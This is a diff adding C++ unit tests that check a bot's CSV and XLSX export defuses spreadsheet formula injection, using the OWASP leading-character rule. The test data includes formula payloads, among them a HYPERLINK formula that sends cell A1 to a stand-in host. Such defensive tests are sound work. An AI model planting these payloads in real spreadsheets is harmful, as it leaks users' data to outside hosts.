@@ -402,3 +402,94 @@ TEST_CASE("export: the CLI names an unknown unit or a bad period and exits 2; re
   CHECK(entries[0].starts_with("cli:test export_requests period=2026-11 format=csv rows=4"));
   CHECK(entries[1].starts_with("cli:test export_served period=2026-Q4 format=xlsx rows=4"));
 }
+
+TEST_CASE("export: names typed as formulas are exported as text, in CSV with a quote, in XLSX as Text cells") {
+  test::dispatch_fixture fx;
+  auto form = [](const std::string& name, const std::string& phone) {
+    return "/dangky\nHọ tên: " + name + "\nNăm sinh: 1950\nThôn: Đông Hải\nĐịa chỉ: xóm 1\nSĐT: " + phone +
+           "\nĐối tượng: khuyết tật\nThủ tục: chứng thực chữ ký";
+  };
+  // (No ';' in them: the form reads it as a field separator.)
+  const std::vector<std::string> names = {"=HYPERLINK(\"http://x.invalid/?\"&A1,\"Mở\")", "+Lan 1+1",
+                                          "-2+3 Hoa", "@SUM(1,2)"};
+  for (std::size_t i = 0; i < names.size(); ++i) {
+    CAPTURE(names[i]);
+    // The phone typed in the international form, "+84…", on the way in.
+    REQUIRE(fx.group("admin-1", form(names[i], "+84 912 345 67" + std::to_string(i)), local(2026, 11, 25, 10 + i)) ==
+            handlers::dispatch_outcome::processed);
+  }
+  fx.take();
+
+  test::temp_dir dir;
+  auto cfg = bot::load_config(write_config(dir, fx.db().db().getFilename()));
+  if (!cfg) FAIL(cfg.error().message);
+  std::ostringstream out;
+  auto* old_out = std::cout.rdbuf(out.rdbuf());
+  auto run = [&](const std::string& format, const std::string& file) {
+    return bot::run_export(*cfg, bot::clock(local(2026, 12, 2)), "binhgiang", "2026-11", "requests", format,
+                           dir.file(file), "cli:test");
+  };
+  int csv_rc = run("csv", "r.csv");
+  int xlsx_rc = run("xlsx", "r.xlsx");
+  std::cout.rdbuf(old_out);
+  REQUIRE(csv_rc == 0);
+  REQUIRE(xlsx_rc == 0);
+
+  // CSV: each such cell begins with a quote (RFC 4180 quoting around it where it holds one).
+  auto csv = test::read_file(dir.file("r.csv"));
+  CHECK(csv.find(",\"'=HYPERLINK(\"\"http://x.invalid/?\"\"&A1,\"\"Mở\"\")\",") != std::string::npos);
+  CHECK(csv.find(",'+Lan 1+1,") != std::string::npos);
+  CHECK(csv.find(",'-2+3 Hoa,") != std::string::npos);
+  CHECK(csv.find(",\"'@SUM(1,2)\",") != std::string::npos);
+  // No cell of the file begins with a formula character.
+  auto back = bot::parse_csv(csv);
+  REQUIRE(back);
+  REQUIRE(back->records.size() == 5);
+  for (const auto& rec : back->records) {
+    for (const auto& field : rec.fields) {
+      CAPTURE(field);
+      CHECK_FALSE(bot::read_as_formula(field));
+    }
+  }
+  // The phone is not in the requests export at all.
+  CHECK(csv.find("91234567") == std::string::npos);
+
+  // XLSX: the names are string cells holding exactly what was typed, no formula anywhere, and
+  // their style has the Text number format (49 is "@").
+  xlsx_sheet x(dir.file("r.xlsx"));
+  CHECK(x.sheet_xml.find("<f>") == std::string::npos);
+  CHECK(x.value("C1") == "Họ tên");
+  std::vector<std::string> cells;
+  for (int row = 2; row <= 5; ++row) {
+    auto ref = "C" + std::to_string(row);
+    cells.push_back(x.value(ref));
+    CHECK(x.sheet_xml.find("<c r=\"" + ref + "\" s=\"") != std::string::npos);
+    CHECK(x.sheet_xml.find("<c r=\"" + ref + "\" s=\"" + std::to_string(x.style(ref)) + "\" t=\"s\">") !=
+          std::string::npos);
+  }
+  std::sort(cells.begin(), cells.end());
+  auto expected = names;
+  std::sort(expected.begin(), expected.end());
+  CHECK(cells == expected);
+  CHECK(x.styles_xml.find("numFmtId=\"49\"") != std::string::npos);
+  // An ordinary name keeps the plain style.
+  CHECK(x.style("J2") == -1);
+}
+
+TEST_CASE("export: the formula rule is OWASP's: =, +, -, @, tab and carriage return at the start") {
+  for (const char* v : {"=1+1", "+84912345678", "-1", "@x", "\tx", "\rx"}) {
+    CAPTURE(v);
+    CHECK(bot::read_as_formula(v));
+    CHECK(bot::csv_text_cell(v) == std::string("'") + v);
+  }
+  for (const char* v : {"", "Nguyễn Văn Tư", "1+1", " =1", "'=1", "a=b", "0912-345"}) {
+    CAPTURE(v);
+    CHECK_FALSE(bot::read_as_formula(v));
+    CHECK(bot::csv_text_cell(v) == v);
+  }
+  // Numbers and dates are the program's own and stay numbers; only text is guarded.
+  bot::sheet s;
+  s.columns = {{"a"}, {"b"}, {"c"}};
+  s.rows.push_back({{std::int64_t{-3}, std::string("-3"), std::string("\t=x")}});
+  CHECK(bot::to_csv(s) == "\xEF\xBB\xBF" "a,b,c\r\n-3,'-3,'\t=x\r\n");
+}
